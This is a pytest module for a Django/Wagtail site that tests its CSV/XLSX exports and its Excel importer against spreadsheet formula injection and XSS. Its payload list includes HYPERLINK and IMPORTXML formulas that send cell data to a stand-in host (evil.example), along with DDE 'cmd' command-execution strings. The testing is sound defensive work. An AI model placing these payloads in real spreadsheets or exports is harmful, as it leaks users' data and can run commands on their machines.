"""The injection corpus, extended to every CSV/XLSX export and to the Excel importer.

The exports are enumerated from the code: every URL whose view is a Wagtail
SpreadsheetExportMixin with a ``list_export`` (our viewsets and Wagtail's own reports), the
learning reports of ``reports.REPORT_KINDS``, the certificate list, the cash book and the
import template. The text fields behind every exported column are filled with formula and
XSS payloads; no CSV cell may start with a formula trigger and no XLSX cell may be a formula.
"""

import csv
import io
import re
import unicodedata
import zipfile
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.db import models
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log
from wagtail.models import Page, Workflow

from congphuong.core.tests.test_xss import PAYLOADS as XSS_PAYLOADS

pytestmark = pytest.mark.django_db

FORMULA_PAYLOADS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u200b=1+1",
    '\ufeff=HYPERLINK("https://evil.example/")',
    "\uff1d1+1",  # full-width equals sign
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',
    "=1+1",
]
CORPUS = FORMULA_PAYLOADS + XSS_PAYLOADS
# Text columns the test must not rewrite: they route requests or sign users in.
UNTOUCHED_FIELDS = {"hostname", "username", "password", "email", "url_path", "path", "content_type", "locale"}
# Lookup tables the code finds rows of by name: rewriting them would break the app, not test it.
UNTOUCHED_MODELS = {
    ("contenttypes", "contenttype"),
    ("auth", "permission"),
    ("auth", "group"),
    ("wagtailcore", "locale"),
}


def formula_trigger(value) -> bool:
    """What a spreadsheet program evaluates (written here again on purpose: not the code under test)."""
    if not isinstance(value, str) or not value:
        return False
    if value[0] in "\t\r\n":
        return True
    visible = "".join(c for c in value if not (c.isspace() or unicodedata.category(c) in ("Cf", "Cc")))
    return visible[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


# --- the exports, from the URL conf -----------------------------------------------------------------


def _patterns(resolver=None):
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            yield from _patterns(pattern)
        elif isinstance(pattern, URLPattern):
            yield pattern


def listing_exports():
    """(url name, model, list_export) of every listing view that offers CSV/XLSX."""
    found = {}
    for pattern in _patterns():
        view_class = getattr(pattern.callback, "view_class", None)
        if not (view_class and issubclass(view_class, SpreadsheetExportMixin)):
            continue
        initkwargs = getattr(pattern.callback, "view_initkwargs", {})
        fields = initkwargs.get("list_export", view_class.list_export)
        if not fields or pattern.pattern.regex.groups or str(pattern.pattern).endswith("results/"):
            continue
        model = initkwargs.get("model", getattr(view_class, "model", None))
        found[pattern.callback] = (pattern, model, list(fields))
    return list(found.values())


def _url_of(pattern):
    for resolver_path, name in _named_paths():
        if name is pattern:
            return resolver_path
    raise AssertionError(pattern)


def _named_paths(resolver=None, prefix="/"):
    resolver = resolver or get_resolver()
    for item in resolver.url_patterns:
        if isinstance(item, URLResolver):
            yield from _named_paths(item, prefix + str(item.pattern))
        else:
            yield prefix + str(item.pattern), item


# --- the data -----------------------------------------------------------------------------------------


def _text_fields(model):
    for field in model._meta.concrete_fields:
        if (
            isinstance(field, (models.CharField, models.TextField))
            and not isinstance(field, (models.SlugField, models.EmailField, models.URLField))
            and not field.choices
            and not field.primary_key
            and field.name not in UNTOUCHED_FIELDS
        ):
            yield field


def fill_with_payloads(model):
    """Every free-text field of every row of `model` gets a payload (plus the pk, for unique fields)."""
    fields = list(_text_fields(model))
    if not fields:
        return 0
    count = 0
    for index, pk in enumerate(model._base_manager.values_list("pk", flat=True).order_by("pk")):
        payload = CORPUS[index % len(CORPUS)]
        values = {}
        suffix = f" {pk}"
        for field in fields:
            room = (field.max_length or 10_000) - len(suffix)
            values[field.attname] = payload[:room] + suffix
        model._base_manager.filter(pk=pk).update(**values)
        count += 1
    return count


def related_models(model, dotted_fields):
    """The models whose text an exported column shows: the model itself and what its fields point to."""
    seen = {model}
    for dotted in dotted_fields:
        current = model
        for part in dotted.split("."):
            try:
                field = current._meta.get_field(part)
            except Exception:
                break
            if not field.is_relation or field.related_model is None:
                break
            current = field.related_model
            seen.add(current)
    return seen


@pytest.fixture
def superuser(ward):
    return get_user_model().objects.create_superuser("quantri_corpus", "qt@example.com", "CongPhuong@2025")


@pytest.fixture
def corpus_data(ward, home, category, superuser, settings, tmp_path):
    """Demo learning data and pages in a ward, then payloads in every exported text field."""
    from congphuong.learning.demo import build_demo
    from congphuong.news.tests.factories import ArticlePageFactory

    settings.LEARNING_PRIVATE_ROOT = str(tmp_path / "private")
    build_demo(home, ward)
    article = ArticlePageFactory(parent=category, title="Bài thử")
    revision = article.save_revision(user=superuser)
    revision.publish(user=superuser)
    article.refresh_from_db()
    workflow = Workflow.objects.filter(active=True).first()
    models_to_fill = {Page, get_user_model()}
    for _pattern, model, fields in listing_exports():
        if model is not None:
            models_to_fill |= related_models(model, fields)
    from wagtail.models import Site

    models_to_fill.add(Site)
    filled = {
        model: fill_with_payloads(model)
        for model in models_to_fill
        if not model._meta.abstract and (model._meta.app_label, model._meta.model_name) not in UNTOUCHED_MODELS
    }
    Page.objects.filter(pk=article.pk).update(
        locked=True, locked_by=superuser, locked_at=timezone.now(), last_published_at=timezone.now()
    )
    article = Page.objects.get(pk=article.pk).specific
    log(article, "wagtail.edit", user=superuser)  # the site history shows the page's (payload) title
    if workflow is not None:
        workflow.start(article, superuser)
    return filled


# --- the checks -----------------------------------------------------------------------------------------


def _content(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(content: bytes):
    text = content.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline="")):
        yield from row


def assert_no_formula_in_xlsx(content: bytes, where: str) -> int:
    """No <f> element in any sheet, no cell of type formula; text that looks like one is a string."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                assert not re.search(r"<(\w+:)?f[ >/]", xml), f"{where}: formula element in {name}"
    workbook = load_workbook(io.BytesIO(content))
    payload_cells = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: {cell.coordinate} is a formula: {cell.value!r}"
                if formula_trigger(cell.value):
                    payload_cells += 1
                    assert cell.data_type in ("s", "inlineStr"), f"{where}: {cell.coordinate} {cell.data_type}"
    return payload_cells


def test_the_registry_finds_the_exports():
    names = {pattern.name for pattern, _model, _fields in listing_exports()}
    assert {"site_history", "locked_pages", "aging_pages", "workflow"} <= names
    assert sum(1 for pattern, _m, _f in listing_exports() if pattern.name == "index") >= 10


def test_every_export_escapes_formulas(client, corpus_data, superuser, ward):
    """One test for all files: the demo data behind them takes a while to build."""
    assert sum(corpus_data.values()) > 100
    client.force_login(superuser)
    check_listing_exports(client)
    check_learning_documents(client, ward)


def check_listing_exports(client):
    escaped_somewhere = 0
    for pattern, _model, _fields in listing_exports():
        url = _url_of(pattern)
        for export_format in ("csv", "xlsx"):
            response = client.get(url, {"export": export_format})
            where = f"{url}?export={export_format}"
            assert response.status_code == 200, f"{where}: HTTP {response.status_code}"
            content = _content(response)
            if export_format == "csv":
                for cell in csv_cells(content):
                    assert not formula_trigger(cell), f"{where}: {cell!r}"
                    escaped_somewhere += cell.startswith("'") and formula_trigger(cell[1:])
            else:
                escaped_somewhere += assert_no_formula_in_xlsx(content, where)
    assert escaped_somewhere > 50  # the payloads did reach the files


def check_learning_documents(client, ward):
    from congphuong.learning.models import RecognitionDecision
    from congphuong.learning.reports import REPORT_KINDS

    year = timezone.localdate().year
    urls = [reverse("learning_report", args=[kind, "xlsx"]) + f"?phuong={ward.pk}&nam={year}" for kind in REPORT_KINDS]
    urls += [
        reverse("learning_certificates", args=[decision.pk]) + "?export=xlsx"
        for decision in RecognitionDecision.objects.filter(site=ward)
    ]
    urls.append(reverse("learning_cash_book") + f"?phuong={ward.pk}&export=xlsx")
    urls += [reverse("learning_import_template", args=[kind]) for kind in ("ho-gia-dinh", "cong-dan")]
    files = 0
    for url in urls:
        response = client.get(url)
        if response.status_code == 302:  # a report without a dossier that year: a message, no file
            continue
        assert response.status_code == 200, url
        assert_no_formula_in_xlsx(_content(response), url)
        files += 1
    assert files >= 4


def test_no_spreadsheet_is_written_outside_the_guarded_helpers():
    """A new export must use core/spreadsheets.py: raw writers are only allowed where it is applied."""
    root = Path(__file__).resolve().parents[2]
    # learning/viewsets.py names its sheet and appends rows made by Wagtail's guarded generate_xlsx_row.
    guarded = {
        "learning/documents.py",
        "learning/importer.py",
        "learning/viewsets.py",
        "province/overview.py",  # every cell through set_xlsx_value
        "core/spreadsheets.py",
    }
    writers = re.compile(r"csv\.writer|csv\.DictWriter|Workbook\(|xlsxwriter|\.cell\([^)]*value=")
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        if "/tests/" in relative or "/migrations/" in relative:
            continue
        source = path.read_text(encoding="utf-8")
        if writers.search(source) and relative not in guarded:
            offenders.append(relative)
        if relative in guarded - {"core/spreadsheets.py"} and re.search(r"\.cell\([^)]*value=", source):
            offenders.append(f"{relative} (raw cell write)")
    assert not offenders


# --- the importer --------------------------------------------------------------------------------------


def _household_file(ward):
    from congphuong.learning.models import LearningQuarter

    quarter = LearningQuarter.objects.filter(site=ward).first()
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Hộ gia đình"
    sheet.append(["Mã hộ", "Khu phố", "Họ tên chủ hộ", "Địa chỉ"])
    for index, payload in enumerate(FORMULA_PAYLOADS, start=1):
        for column, value in enumerate([f"CORPUS-{index}", quarter.name, payload, payload], start=1):
            cell = sheet.cell(row=index + 1, column=column)
            cell.value = value
            cell.data_type = "s"  # a text cell typed by the officer, not a formula
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def test_imported_formula_text_is_stored_as_text_and_exported_escaped(client, ward, home):
    from congphuong.learning.models import Household, LearningQuarter
    from congphuong.learning.tests.factories import officer

    LearningQuarter.objects.create(site=ward, name="Khu phố 1")
    user = officer()
    client.force_login(user)
    upload = io.BytesIO(_household_file(ward))
    upload.name = "ho.xlsx"
    response = client.post(reverse("learning_import"), {"kind": "ho-gia-dinh", "file": upload, "site": ward.pk})
    assert response.status_code == 200
    token = re.search(r'name="token" value="([^"]+)"', response.content.decode())
    assert token, response.content.decode()[:2000]
    response = client.post(reverse("learning_import_commit"), {"token": token.group(1)})
    assert response.status_code in (200, 302)
    stored = dict(Household.objects.filter(site=ward, code__startswith="CORPUS-").values_list("code", "head_name"))
    assert len(stored) == len(FORMULA_PAYLOADS)
    assert stored["CORPUS-1"] == FORMULA_PAYLOADS[0]  # the text itself, unchanged
    assert stored["CORPUS-6"] == "=1+1"  # "\t=1+1": the tab is trimmed, the rest stays text
    for export_format in ("csv", "xlsx"):
        response = client.get(reverse("learning_household:index"), {"export": export_format})
        content = _content(response)
        if export_format == "csv":
            cells = list(csv_cells(content))
            assert "'" + FORMULA_PAYLOADS[0] in cells
            assert not [cell for cell in cells if formula_trigger(cell)]
        else:
            assert assert_no_formula_in_xlsx(content, "households.xlsx") >= len(FORMULA_PAYLOADS)
